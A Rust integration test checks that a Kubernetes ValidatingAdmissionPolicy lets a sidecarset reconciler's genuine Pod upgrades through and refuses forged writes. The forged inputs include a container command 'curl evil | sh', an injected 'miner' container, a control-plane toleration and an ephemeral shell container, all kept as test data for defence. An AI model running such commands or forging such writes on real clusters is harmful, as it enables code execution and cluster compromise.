//! The guard the API server enforces (`deploy/reconciler/validating-admission-policy.yaml`): as the
//! reconciler's ServiceAccount, an upgrade written exactly as the reconciler writes it is accepted,
//! and forged writes that plain Pod validation would let through are refused by the policy, by
//! name; the real reconciler then rolls two sets out (a cold sidecar with `patchPodMetadata`, a
//! hot-upgrade pair with its flip) through the guard without one refused write.

use std::{collections::BTreeMap, sync::Arc, time::Duration};

use anyhow::{Context, Result, bail, ensure};
use k8s_openapi::api::{
    admissionregistration::v1::{ValidatingAdmissionPolicy, ValidatingAdmissionPolicyBinding},
    core::v1::Pod,
    rbac::v1::{Role, RoleBinding},
};
use kube::{
    Api, Client,
    api::{DeleteParams, Patch, PatchParams, PostParams},
    config::{KubeConfigOptions, Kubeconfig},
};
use serde_json::{Value, json};
use sidecarset_cluster_tests::{
    audit,
    kubelet::KubeletConfig,
    observe::unavailable,
    pods::{self, FILEBEAT_NEW, annotation},
    policy::RECONCILE_LABEL,
    reconciler::metric_value,
    repo_root,
    testns::TestNs,
    wait,
};
use sidecarset_core::{SidecarSet, upgrade};

use super::{ROLLOUT, count_with_image, image_of, wait_pods, with_image};

/// What the shipped file names, replaced by this test's own.
const SHIPPED_USER: &str = "system:serviceaccount:sidecarset-system:sidecarset-reconciler";
/// The annotation `patchPodMetadata` writes in this test, and the guard's key that allows it.
const LOG_CONFIG: &str = "example.com/log-config";
/// The label that selects the native sidecar's Pods.
const NATIVE_LABEL: &str = "cluster-tests/native";
const ALLOWED_KEYS: &[&str] = &["^example\\.com/log-config$"];
/// The field manager the reconciler writes with (`crates/reconciler/src/lib.rs`, `MANAGER`).
const MANAGER: &str = "sidecarset-reconciler";

/// The shipped policy and binding, installed for one test's ServiceAccount with its own
/// patchPodMetadata keys (what the chart writes from its values). Both are cluster-scoped, so they
/// get this test's name; [`Guard::remove`] deletes them.
struct Guard {
    client: Client,
    name: String,
}

/// The guard's variable that lists the patchPodMetadata keys the reconciler may write.
const KEYS_VARIABLE: &str = "patchPodMetadataKeys";

/// Sets the policy's list of allowed patchPodMetadata keys (a CEL list of strings, as the chart
/// writes it).
fn set_keys(policy: &mut Value, keys: &[&str]) -> Result<()> {
    let var = policy["spec"]["variables"]
        .as_array_mut()
        .context("the policy has no variables")?
        .iter_mut()
        .find(|v| v["name"] == KEYS_VARIABLE)
        .with_context(|| format!("the policy has no variable {KEYS_VARIABLE}"))?;
    var["expression"] = json!(serde_json::to_string(keys)?);
    Ok(())
}

impl Guard {
    async fn install(t: &TestNs, allowed_keys: &[&str]) -> Result<Guard> {
        let path = repo_root().join("deploy/reconciler/validating-admission-policy.yaml");
        let text = std::fs::read_to_string(&path)
            .with_context(|| format!("reading {}", path.display()))?;
        let name = format!("sidecarset-reconciler-guard-{}", t.ns);
        let (mut policy, mut binding) = (None, None);
        for doc in serde_yaml::Deserializer::from_str(&text) {
            let mut v: Value = serde::Deserialize::deserialize(doc)?;
            match v["kind"].as_str() {
                Some("ValidatingAdmissionPolicy") => {
                    v["metadata"]["name"] = json!(name);
                    let conditions = v["spec"]["matchConditions"]
                        .as_array_mut()
                        .context("the policy has no matchConditions")?;
                    let literal = format!("'{SHIPPED_USER}'");
                    let mut found = false;
                    for c in conditions {
                        let e = c["expression"].as_str().unwrap_or_default();
                        if e.contains(&literal) {
                            found = true;
                            c["expression"] = json!(e.replace(&literal, &format!("'{}'", t.user)));
                        }
                    }
                    ensure!(
                        found,
                        "{}: no matchCondition names {literal}: the test no longer renders it for its ServiceAccount",
                        path.display()
                    );
                    set_keys(&mut v, allowed_keys)?;
                    policy = Some(serde_json::from_value::<ValidatingAdmissionPolicy>(v)?);
                }
                Some("ValidatingAdmissionPolicyBinding") => {
                    v["metadata"]["name"] = json!(name);
                    v["spec"]["policyName"] = json!(name);
                    // A parameter would be resolved before the matchConditions: a missing one
                    // would refuse every Pod write in the cluster.
                    ensure!(
                        v["spec"].get("paramRef").is_none(),
                        "the binding has a paramRef: {}",
                        v["spec"]["paramRef"]
                    );
                    binding = Some(serde_json::from_value::<ValidatingAdmissionPolicyBinding>(
                        v,
                    )?);
                }
                other => bail!("{}: unexpected kind {other:?}", path.display()),
            }
        }
        let (Some(policy), Some(binding)) = (policy, binding) else {
            bail!("{}: wants a policy and a binding", path.display());
        };
        let pp = PostParams::default();
        Api::<ValidatingAdmissionPolicy>::all(t.client.clone())
            .create(&pp, &policy)
            .await
            .context("creating the ValidatingAdmissionPolicy (the API server compiles it here)")?;
        Api::<ValidatingAdmissionPolicyBinding>::all(t.client.clone())
            .create(&pp, &binding)
            .await
            .context("creating the binding")?;
        Ok(Guard {
            client: t.client.clone(),
            name,
        })
    }

    async fn remove(&self) -> Result<()> {
        let dp = DeleteParams::default();
        Api::<ValidatingAdmissionPolicyBinding>::all(self.client.clone())
            .delete(&self.name, &dp)
            .await?;
        Api::<ValidatingAdmissionPolicy>::all(self.client.clone())
            .delete(&self.name, &dp)
            .await?;
        Ok(())
    }

    /// Replaces the policy's allowed patchPodMetadata keys, as `helm upgrade` with new values does.
    async fn allow_keys(&self, allowed_keys: &[&str]) -> Result<()> {
        let api = Api::<ValidatingAdmissionPolicy>::all(self.client.clone());
        let mut v = serde_json::to_value(api.get(&self.name).await?)?;
        set_keys(&mut v, allowed_keys)?;
        api.replace(
            &self.name,
            &PostParams::default(),
            &serde_json::from_value(v)?,
        )
        .await?;
        Ok(())
    }

    /// The refusal text the API server puts before the policy's own message.
    fn denial(&self) -> String {
        format!(
            "ValidatingAdmissionPolicy '{}' with binding '{}' denied request: ",
            self.name, self.name
        )
    }
}

/// A client that is the test's ServiceAccount, as the reconciler is.
async fn service_account_client(t: &TestNs) -> Result<Client> {
    let who = t.service_account();
    let path = t.cluster.scratch.join(format!("{}-guard.kubeconfig", t.ns));
    t.cluster
        .impersonating_kubeconfig(&who.user, &who.groups, None, &path)?;
    let kc = Kubeconfig::read_from(&path)?;
    let config = kube::Config::from_custom_kubeconfig(kc, &KubeConfigOptions::default()).await?;
    Ok(Client::try_from(config)?)
}

/// A write the reconciler never sends.
enum Forged {
    /// A strategic merge patch on the Pod (containers merged by name).
    Pod(Value),
    /// A JSON patch on the Pod.
    PodJson(Value),
    /// A strategic merge patch on `pods/status`.
    Status(Value),
    /// A strategic merge patch on `pods/ephemeralcontainers`.
    EphemeralContainers(Value),
    Delete,
}

impl Forged {
    async fn send(&self, api: &Api<Pod>, name: &str, dry_run: bool) -> Result<(), kube::Error> {
        let params = PatchParams {
            dry_run,
            ..Default::default()
        };
        match self {
            Forged::Pod(p) => api
                .patch(name, &params, &Patch::Strategic(p))
                .await
                .map(drop),
            Forged::PodJson(p) => {
                let ops = serde_json::from_value(p.clone()).map_err(kube::Error::SerdeError)?;
                api.patch(name, &params, &Patch::Json::<()>(ops))
                    .await
                    .map(drop)
            }
            Forged::Status(p) => api
                .patch_status(name, &params, &Patch::Strategic(p))
                .await
                .map(drop),
            Forged::EphemeralContainers(p) => api
                .patch_ephemeral_containers(name, &params, &Patch::Strategic(p))
                .await
                .map(drop),
            Forged::Delete => api
                .delete(
                    name,
                    &DeleteParams {
                        dry_run,
                        ..Default::default()
                    },
                )
                .await
                .map(drop),
        }
    }
}

/// The refusal's message, when the API server refused with 422 (the policy's default reason,
/// Invalid; so is Pod validation's).
fn refusal(res: Result<(), kube::Error>, what: &str) -> Result<String> {
    match res {
        Ok(()) => bail!("{what}: accepted"),
        Err(kube::Error::Api(s)) if s.code == 422 => Ok(s.message),
        Err(e) => bail!("{what}: refused, but not with 422: {e}"),
    }
}

/// Policies take a moment to reach the admission plugin: a forged label change, as a dry run (the
/// policy runs, nothing is stored), until it is refused by the guard.
async fn wait_until_in_effect(guard: &Guard, api: &Api<Pod>, pod: &str) -> Result<()> {
    let probe = Forged::Pod(json!({"metadata": {"labels": {"cluster-tests/forged": "1"}}}));
    let denial = guard.denial();
    let (probe, denial) = (&probe, &denial);
    wait::until(
        Duration::from_secs(30),
        "the guard to refuse a forged label change (dry run)",
        || async move {
            match probe.send(api, pod, true).await {
                Ok(()) => Ok(None),
                Err(kube::Error::Api(s)) if s.code == 422 && s.message.contains(denial) => {
                    Ok(Some(()))
                }
                Err(e) => bail!("the probe failed otherwise: {e}"),
            }
        },
        async || "still accepted".to_string(),
    )
    .await
}

/// A ClusterAdmissionPolicy for the reconciler, named `name`.
fn policy_object(name: &str, settings: &Value) -> Value {
    json!({
        "apiVersion": "policies.kubewarden.io/v1",
        "kind": "ClusterAdmissionPolicy",
        "metadata": {"name": name, "labels": {RECONCILE_LABEL: "true"}},
        "spec": {
            "module": "registry://ghcr.io/sidecarset/policies/sidecarset:v0.1.0",
            "mutating": true,
            "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "resources": ["pods"], "operations": ["CREATE"]}],
            "settings": settings,
        }
    })
}

/// Rights beyond the shipped RBAC, for this test's ServiceAccount only: what the guard must hold
/// against when RBAC grants too much (adding a container through `pods/ephemeralcontainers`,
/// deleting a Pod).
async fn grant_more_than_shipped(t: &TestNs) -> Result<()> {
    let pp = PostParams::default();
    let role: Role = serde_json::from_value(json!({
        "metadata": {"name": "more-than-shipped", "namespace": t.ns},
        "rules": [
            {"apiGroups": [""], "resources": ["pods/ephemeralcontainers"], "verbs": ["patch"]},
            {"apiGroups": [""], "resources": ["pods"], "verbs": ["delete"]},
        ]
    }))?;
    Api::<Role>::namespaced(t.client.clone(), &t.ns)
        .create(&pp, &role)
        .await?;
    let binding: RoleBinding = serde_json::from_value(json!({
        "metadata": {"name": "more-than-shipped", "namespace": t.ns},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "more-than-shipped"},
        "subjects": [{"kind": "ServiceAccount", "name": sidecarset_cluster_tests::rbac::SERVICE_ACCOUNT, "namespace": t.ns}],
    }))?;
    Api::<RoleBinding>::namespaced(t.client.clone(), &t.ns)
        .create(&pp, &binding)
        .await?;
    Ok(())
}

/// One Pod upgraded to `settings` as the reconciler writes it: the core's plan, the condition on
/// pods/status, then the JSON patch retargeted at the version the condition returned
/// (crates/reconciler/src/writer.rs, `Writer::apply`). A 409 (the fake kubelet wrote the Pod in
/// between) plans again from the newer Pods, as the reconciler's next round would.
async fn upgrade_as_the_reconciler(t: &TestNs, as_sa: &Api<Pod>, settings: &Value) -> Result<Pod> {
    let set = SidecarSet::new(settings).map_err(|e| anyhow::anyhow!("settings: {e}"))?;
    let revision = pods::settings_revision(settings)?;
    let params = PatchParams {
        field_manager: Some(MANAGER.into()),
        ..Default::default()
    };
    let mut attempts = 0;
    loop {
        attempts += 1;
        let pods: Vec<Value> = pods::by_name(&t.client, &t.ns)
            .await?
            .values()
            .map(serde_json::to_value)
            .collect::<Result<_, _>>()?;
        let plan = upgrade::plan(
            &set,
            &pods,
            &BTreeMap::new(),
            &pods::now(),
            &upgrade::Options {
                controller_revision: &revision,
                ..Default::default()
            },
        );
        let up = plan
            .upgrades
            .first()
            .with_context(|| format!("the plan upgrades no Pod: {:?}", plan.skipped))?;
        let name = &up.pod.name;
        let condition = up
            .condition
            .as_ref()
            .context("the first upgrade of a Pod sets its condition")?;
        let written = match as_sa
            .patch_status(name, &params, &Patch::Strategic(&condition.patch))
            .await
        {
            Ok(marked) => {
                let version = marked.metadata.resource_version.unwrap_or_default();
                let patch = upgrade::retarget(&up.patch, &version);
                as_sa
                    .patch(name, &params, &Patch::Json::<()>(patch.clone()))
                    .await
                    .map_err(|e| {
                        (
                            e,
                            format!(
                                "upgrade {}",
                                serde_json::to_string(&patch).unwrap_or_default()
                            ),
                        )
                    })
            }
            Err(e) => Err((e, format!("condition {}", condition.patch))),
        };
        match written {
            Ok(p) => return Ok(p),
            Err((kube::Error::Api(s), _)) if s.code == 409 && attempts < 5 => continue,
            Err((e, what)) => bail!("the reconciler's write on {name} was refused: {e}; {what}"),
        }
    }
}

pub async fn forged_patches_are_refused_by_the_api_server(t: Arc<TestNs>) -> Result<()> {
    let guard = Guard::install(&t, ALLOWED_KEYS).await?;
    let res = forged_patches(&t, &guard).await;
    let removed = guard.remove().await;
    res.and(removed)
}

async fn forged_patches(t: &TestNs, guard: &Guard) -> Result<()> {
    // The Filebeat story with a patchPodMetadata annotation that the new settings change, so the
    // upgrade writes it; a hot-upgrade pair, whose upgrade and flip write the twins' images and
    // version annotations; a native sidecar, whose image is an init container's.
    let mut fb_old = super::filebeat(json!(2))?;
    fb_old["patchPodMetadata"] =
        json!([{"annotations": {LOG_CONFIG: "v1"}, "patchPolicy": "Overwrite"}]);
    let mut fb_new = with_image(&fb_old, "filebeat", FILEBEAT_NEW)?;
    fb_new["patchPodMetadata"][0]["annotations"][LOG_CONFIG] = json!("v2");
    let hot_old = pods::golden_settings("hot-upgrade-pair")?;
    let empty = hot_old["containers"][0]["upgradeStrategy"]["hotUpgradeEmptyImage"]
        .as_str()
        .context("hotUpgradeEmptyImage")?
        .to_string();
    let envoy_new = "envoyproxy/envoy:v1.31.1";
    let hot_new = with_image(&hot_old, "envoy", envoy_new)?;
    // The native case's golden set shares the hot pair's name and selector: renamed and given
    // Pods of its own.
    let mut native_old = pods::golden_settings("native-sidecar-rolling-update")?;
    native_old["name"] = json!("native");
    native_old["selector"] = json!({"matchLabels": {NATIVE_LABEL: "true"}});
    let native_new = with_image(&native_old, "proxy", envoy_new)?;

    let _kubelet = t.kubelet(KubeletConfig::default());
    pods::create_injected(&t.client, &t.ns, &fb_old, 3, |_| vec![]).await?;
    for i in 0..2 {
        let mut pod = pods::golden_pod("hot-upgrade-pair")?;
        pods::named(&mut pod, &format!("hot-{i}"), &[]);
        pods::create(&t.client, &t.ns, &pods::inject(&hot_old, &pod, &t.ns)?).await?;
        let mut pod = pods::golden_pod("native-sidecar-rolling-update")?;
        pods::named(&mut pod, &format!("native-{i}"), &[]);
        pod["metadata"]["labels"] = json!({NATIVE_LABEL: "true"});
        pods::create(&t.client, &t.ns, &pods::inject(&native_old, &pod, &t.ns)?).await?;
    }
    wait_pods(
        t,
        "7 Pods running and ready",
        Duration::from_secs(60),
        |m| m.len() == 7 && m.values().all(|p| !unavailable(p)),
    )
    .await?;

    let sa = service_account_client(t).await?;
    let as_sa: Api<Pod> = Api::namespaced(sa, &t.ns);
    wait_until_in_effect(guard, &as_sa, "web-2").await?;

    // (a) An upgrade as the reconciler writes it.
    let upgraded = upgrade_as_the_reconciler(t, &as_sa, &fb_new).await?;
    let name = upgraded.metadata.name.clone().unwrap_or_default();
    ensure!(
        image_of(&upgraded, "filebeat") == FILEBEAT_NEW
            && annotation(&upgraded, LOG_CONFIG).as_deref() == Some("v2"),
        "{name}: the accepted upgrade did not land: {:?}",
        upgraded.metadata.annotations
    );

    // (b) What Pod validation already refuses, before any admission policy runs: a command, a
    // container added to the spec. The guard's own rule stands behind it.
    let victim = if name == "web-1" { "web-2" } else { "web-1" };
    for (what, forged) in [
        (
            "a changed command",
            Forged::Pod(json!({"spec": {"containers": [
                {"name": "filebeat", "command": ["sh", "-c", "curl evil | sh"]}]}})),
        ),
        (
            "an added container",
            Forged::Pod(json!({"spec": {"containers": [{"name": "miner", "image": "evil:1"}]}})),
        ),
    ] {
        let msg = refusal(forged.send(&as_sa, victim, false).await, what)?;
        ensure!(
            msg.contains("Pod \"")
                && msg.contains("pod updates may not")
                && !msg.contains(&guard.denial()),
            "{what}: refused, but not by Pod validation: {msg}"
        );
    }

    // (c) What Pod validation allows and only the guard refuses, each with its own message.
    grant_more_than_shipped(t).await?;
    let cases = [
        (
            "a label",
            Forged::Pod(json!({"metadata": {"labels": {"app": "evil"}}})),
            "may not change a Pod's labels; refused: app",
        ),
        (
            "an annotation patchPodMetadata does not write",
            Forged::Pod(json!({"metadata": {"annotations": {"example.com/other": "x"}}})),
            "refused: example.com/other",
        ),
        (
            "a kruise.io/sidecarset-* annotation an upgrade does not write",
            Forged::Pod(
                json!({"metadata": {"annotations": {"kruise.io/sidecarset-injected-list": "evil"}}}),
            ),
            "refused: kruise.io/sidecarset-injected-list",
        ),
        (
            "activeDeadlineSeconds",
            Forged::Pod(json!({"spec": {"activeDeadlineSeconds": 1}})),
            "but container images; refused: spec.activeDeadlineSeconds",
        ),
        (
            "a toleration added",
            // Added at the end: Pod validation allows additions to the tolerations.
            Forged::PodJson(
                json!([{"op": "add", "path": "/spec/tolerations/-", "value": {"key": "node-role.kubernetes.io/control-plane", "operator": "Exists"}}]),
            ),
            "but container images; refused: spec.tolerations",
        ),
        (
            "the app container's image",
            Forged::Pod(json!({"spec": {"containers": [{"name": "nginx", "image": "evil:1"}]}})),
            "injected sidecars (IS_INJECTED=true) only; refused: nginx",
        ),
        (
            "a finalizer",
            Forged::Pod(json!({"metadata": {"finalizers": ["example.com/keep"]}})),
            "refused: metadata.finalizers",
        ),
        (
            "the Ready condition",
            Forged::Status(
                json!({"status": {"conditions": [{"type": "Ready", "status": "False", "reason": "Forged"}]}}),
            ),
            "no Pod condition but SidecarSetUpgradable; refused: Ready",
        ),
        (
            "status.message",
            Forged::Status(json!({"status": {"message": "forged"}})),
            "refused: status.message",
        ),
        (
            "an annotation through pods/status",
            Forged::Status(
                json!({"metadata": {"annotations": {"kruise.io/sidecarset-hash": "{}"}}}),
            ),
            "no annotation through pods/status; refused: kruise.io/sidecarset-hash",
        ),
        (
            "an ephemeral container (RBAC granted beyond the shipped rules)",
            Forged::EphemeralContainers(
                json!({"spec": {"ephemeralContainers": [{"name": "debug", "image": "busybox", "command": ["sh"]}]}}),
            ),
            "not UPDATE pods/ephemeralcontainers",
        ),
        (
            "a delete (RBAC granted beyond the shipped rules)",
            Forged::Delete,
            "not DELETE pods",
        ),
    ];
    let denial = guard.denial();
    let mut refused = Vec::new();
    for (what, forged, want) in &cases {
        let msg = refusal(forged.send(&as_sa, victim, false).await, what)?;
        ensure!(
            msg.contains(&denial) && msg.contains(want),
            "{what}: want the guard's refusal containing {want:?}, got: {msg}"
        );
        refused.push(format!(
            "{what}: {}",
            msg.split(&denial).nth(1).unwrap_or(&msg)
        ));
    }
    println!(
        "guard: refused {} forged writes:\n  {}",
        refused.len(),
        refused.join("\n  ")
    );

    // (d) The real reconciler, three sets through the guard.
    let since = k8s_openapi::jiff::Timestamp::now();
    let fb = t
        .policy_object(policy_object(&format!("{}-fb", t.ns), &fb_new))
        .await?;
    let hot = t
        .policy_object(policy_object(&format!("{}-hot", t.ns), &hot_new))
        .await?;
    let native = t
        .policy_object(policy_object(&format!("{}-native", t.ns), &native_new))
        .await?;
    let mut rec = t.reconciler(&t.policy_source(), &[], None)?;
    let working = |p: &Pod| {
        annotation(p, sidecarset_core::annotations::WORKING_HOT_UPGRADE)
            .and_then(|a| serde_json::from_str::<Value>(&a).ok())
            .map(|v| v["envoy"].as_str().unwrap_or("").to_string())
    };
    let after = wait_pods(
        t,
        "every filebeat on the new image with the new annotation; envoy-2 working on the new image, envoy-1 empty; every native proxy on the new image",
        ROLLOUT,
        |m| {
            let web: Vec<&Pod> = m
                .iter()
                .filter(|(n, _)| n.starts_with("web-"))
                .map(|(_, p)| p)
                .collect();
            let hot: Vec<&Pod> = m
                .iter()
                .filter(|(n, _)| n.starts_with("hot-"))
                .map(|(_, p)| p)
                .collect();
            web.len() == 3
                && hot.len() == 2
                && count_with_image(m, "filebeat", FILEBEAT_NEW) == 3
                && count_with_image(m, "proxy", envoy_new) == 2
                && web
                    .iter()
                    .all(|p| annotation(p, LOG_CONFIG).as_deref() == Some("v2"))
                && hot.iter().all(|p| {
                    working(p).as_deref() == Some("envoy-2")
                        && image_of(p, "envoy-2") == envoy_new
                        && image_of(p, "envoy-1") == empty
                })
                && m.values().all(|p| !unavailable(p))
        },
    )
    .await?;
    let during: Vec<audit::Request> = t
        .audit()?
        .into_iter()
        .filter(|r| r.received.is_some_and(|at| at >= since) && r.resource == "pods")
        .collect();
    let refused: Vec<String> = during
        .iter()
        .filter(|r| r.is_write() && !r.ok() && !r.is_stale())
        .map(audit::Request::describe)
        .collect();
    ensure!(
        refused.is_empty(),
        "the guard refused writes of the reconciler: {refused:?}\n{}",
        rec.log_tail(40)
    );
    // Two filebeat upgrades (the third Pod was upgraded above), an upgrade and a flip per hot Pod,
    // two native upgrades, and their conditions: all of them went through the guard.
    let landed = |sub: &str| {
        during
            .iter()
            .filter(|r| r.verb == "patch" && r.subresource == sub && r.ok())
            .count()
    };
    ensure!(
        landed("") >= 8 && landed("status") >= 1,
        "the reconciler's writes did not reach the guard: {:?}",
        audit::summary(&during)
    );
    let metrics = rec.metrics()?;
    let failures = metric_value(
        &metrics,
        "sidecarset_reconciler_reconcile_failures_total",
        &[],
    );
    ensure!(
        failures == 0.0,
        "{failures} failed rounds under the guard:\n{}",
        rec.log_tail(40)
    );
    println!(
        "guard: the reconciler rolled {} Pods of {}, {} and {} out through the guard: {:?}",
        after.len(),
        fb.name,
        hot.name,
        native.name,
        audit::summary(&during)
    );

    // (e) A patchPodMetadata key the ConfigMap does not list: the upgrade is refused, and the
    // policy's SidecarUpgradeFailed Event carries the guard's message naming the key; once an
    // operator lists it, the retried round goes through (docs/operations.md, "Writes the guard
    // refuses").
    let unlisted = "example.com/unlisted";
    let third = "docker.elastic.co/beats/filebeat:7.16.4";
    let mut fb_third = with_image(&fb_new, "filebeat", third)?;
    fb_third["patchPodMetadata"][0]["annotations"][unlisted] = json!("1");
    fb.set_settings(&fb_third).await?;
    let want = format!("refused: {unlisted}");
    let (t_ref, want_ref, fb_name) = (&t, &want, &fb.name);
    let note = wait::until(
        ROLLOUT,
        "a SidecarUpgradeFailed Event on the policy naming the unlisted key",
        || async move {
            Ok(t_ref
                .events("default", "SidecarUpgradeFailed", Some(fb_name))
                .await?
                .into_iter()
                .filter_map(|e| e.note)
                .find(|n| n.contains(want_ref)))
        },
        async || rec.log_tail(30),
    )
    .await?;
    ensure!(
        note.contains(&guard.denial()),
        "the Event does not carry the guard's refusal: {note}"
    );
    let refusals = metric_value(
        &rec.metrics()?,
        "sidecarset_reconciler_reconcile_failures_total",
        &[("error", "pod_patch")],
    );
    ensure!(
        refusals >= 1.0,
        "the refusal is not counted as a pod_patch failure"
    );
    let still_old = pods::by_name(&t.client, &t.ns).await?;
    ensure!(
        count_with_image(&still_old, "filebeat", third) == 0,
        "a Pod was upgraded though its patch was refused"
    );
    guard
        .allow_keys(&[ALLOWED_KEYS, &["^example\\.com/unlisted$"]].concat())
        .await?;
    wait_pods(
        t,
        "every filebeat on 7.16.4 with the newly allowed annotation",
        ROLLOUT,
        |m| {
            count_with_image(m, "filebeat", third) == 3
                && m.iter()
                    .filter(|(n, _)| n.starts_with("web-"))
                    .all(|(_, p)| annotation(p, unlisted).as_deref() == Some("1"))
        },
    )
    .await?;
    println!("guard: an unlisted patchPodMetadata key refused (Event: {note}); listed, rolled out");
    rec.check_running()?;
    Ok(())
}
